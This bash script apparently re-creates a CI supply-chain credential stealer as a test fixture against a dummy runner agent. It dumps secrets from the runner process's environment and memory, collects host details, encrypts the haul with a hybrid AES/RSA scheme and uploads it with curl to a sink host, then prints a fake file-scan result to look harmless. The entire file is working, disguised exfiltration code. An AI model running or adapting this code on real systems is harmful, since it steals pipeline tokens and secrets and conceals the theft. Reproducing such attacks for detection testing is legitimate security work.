#!/usr/bin/env bash
# Agent's environment, agent's memory, credential files; staged, encrypted, packed, uploaded; then the scan, as if nothing
# had happened. Failures are ignored, as they were in the original.
set -u
here=$(dirname "$(readlink -f "$0")")
collected="$TMPDIR/runner_collected_$$.txt"

# As `pgrep -f` does. Several tests may run dummy agents at the same time: only this test's own is touched.
agents() {
  local entry pid argv0
  for entry in /proc/[0-9]*; do
    pid=${entry#/proc/}
    argv0=
    { IFS= read -r -d '' argv0 < "$entry/cmdline"; } 2>/dev/null
    [[ $argv0 == *Runner.Worker* && $pid == "$AGENT_PID" ]] && echo "$pid"
  done
}

for pid in $(agents); do
  cat "/proc/$pid/environ" | tr '\0' '\n' | grep -iE 'token|secret|key' >> "$collected"
  base64 "$here/memdump.py" | base64 -d | python3 - "$pid" | tr -d '\0' \
    | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u >> "$collected"
done

{ hostname; whoami; uname -a; printenv; } >> "$collected"
python3 "$here/../sweep.py" >> "$collected"

pack=$(mktemp -d)
# In hex: openssl takes the first line for the key and refuses one that begins with NUL, as one random key in 256 does.
openssl rand -hex -out "$pack/session.key" 32
openssl enc -aes-256-cbc -pbkdf2 -pass "file:$pack/session.key" -in "$collected" -out "$pack/payload.enc"
openssl pkeyutl -encrypt -pubin -inkey "$PUBKEY" -pkeyopt rsa_padding_mode:oaep \
  -in "$pack/session.key" -out "$pack/session.key.enc"
tar -czf "$pack/tpcp.tar.gz" -C "$pack" payload.enc session.key.enc
curl -s -o /dev/null --max-time 10 -X POST -H 'X-Filename: tpcp.tar.gz' --data-binary "@$pack/tpcp.tar.gz" "http://$SINK/"
rm -rf "$pack" "$collected"

# The real scan.
find "${1:-.}" -name .git -prune -o -type f -print | wc -l | sed 's/^/scanned files: /'
exit 0
